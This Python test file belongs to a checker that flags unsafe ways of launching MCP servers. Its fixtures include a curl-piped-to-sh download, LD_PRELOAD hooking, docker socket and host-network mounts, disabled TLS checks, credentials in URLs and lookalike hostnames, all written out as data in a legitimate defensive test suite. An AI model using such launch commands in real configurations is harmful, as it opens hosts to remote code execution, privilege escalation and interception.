"""What can be seen of a server without starting it."""

from __future__ import annotations

import sys

import pytest

from antiphon.check.checkup import examine_launch

KEY = "ghp_" + "a1B2" * 9
DIGEST = "notes@sha256:" + "0" * 64
UNSAFE: dict[str, tuple[str, object]] = {
    "unpinned npx": ("unpinned", ["npx", "-y", "notes"]),
    "unpinned uvx": ("unpinned", ["uvx", "notes"]),
    "image by tag": ("unpinned", ["docker", "run", "-i", "notes:1"]),
    "shell": ("shell", ["bash", "-c", "server --all"]),
    "login shell": ("shell", ["bash", "-lc", "server"]),
    "secret": ("secret-argument", ["server", f"--token={KEY}"]),
    "secret by its option": ("secret-argument", ["server", "--api-key", "q8Zr41xx"]),
    "superuser": ("superuser", ["sudo", "server"]),
    "piped download": ("piped-download", ["server", "curl -s https://example.com/i.sh | sh"]),
    "privileged": ("privileged", ["docker", "run", "--privileged", DIGEST]),
    "network of the machine": ("privileged", ["docker", "run", "--network", "host", DIGEST]),
    "socket": ("privileged", ["docker", "run", "-v", "/var/run/docker.sock:/var/run/docker.sock", DIGEST]),
    "home": ("privileged", ["docker", "run", "--volume=~:/data", DIGEST]),
    "secret variable": ("secret-variable", {"command": "server", "env": {"API_TOKEN": "q8Zr41xx"}}),
    "known secret": ("secret-variable", {"command": "server", "env": {"SETTINGS": KEY}}),
    "hooking variable": ("hooking-variable", {"command": "server", "env": {"LD_PRELOAD": "/lib/x.so"}}),
    "certificates": ("hooking-variable", {"command": "server", "env": {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}}),
    "plain address": ("unencrypted", "http://example.com/mcp"),
    "secret address": ("secret-url", "https://user:pass@example.com/mcp"),
    "lookalike host": ("lookalike-host", "https://ex\u0430mple.com/mcp"),
    "encoded host": ("lookalike-host", "https://xn--exmple-4nf.com/mcp"),
}
SAFE: tuple[object, ...] = (
    ["npx", "-y", "notes@1.2.3"],
    ["uvx", "notes==1.2.3"],
    ["docker", "run", "-i", "--rm", "-v", "/srv/notes:/data:ro", DIGEST],
    ["server", "--token", "${TOKEN}", "--verbose"],
    ["server", "--token-file", "/run/token"],
    ["bash", "start.sh"],
    [sys.executable, "-m", "notes"],
    {"command": "server", "env": {"LANG": "C", "API_KEY": "${API_KEY}"}},
    "https://example.com/mcp",
    "http://127.0.0.1:8000/mcp",
)


@pytest.mark.parametrize("case", UNSAFE.values(), ids=[*UNSAFE])
def test_an_unsafe_start_has_its_finding(case: tuple[str, object]):
    """A command or address with one fault has one finding, without any secret in it."""
    rule, target = case
    report = examine_launch(target)  # pyright: ignore[reportArgumentType]
    assert [one.rule.id for one in report.findings] == [f"launch.{rule}"]
    assert not any(secret in str(report) for secret in (KEY, "q8Zr41xx", "user:pass"))


@pytest.mark.parametrize("target", SAFE, ids=str)
def test_a_safe_start_has_no_finding(target: object):
    """An exact version, a placeholder and an address of this machine are no fault."""
    assert examine_launch(target).findings == []  # pyright: ignore[reportArgumentType]
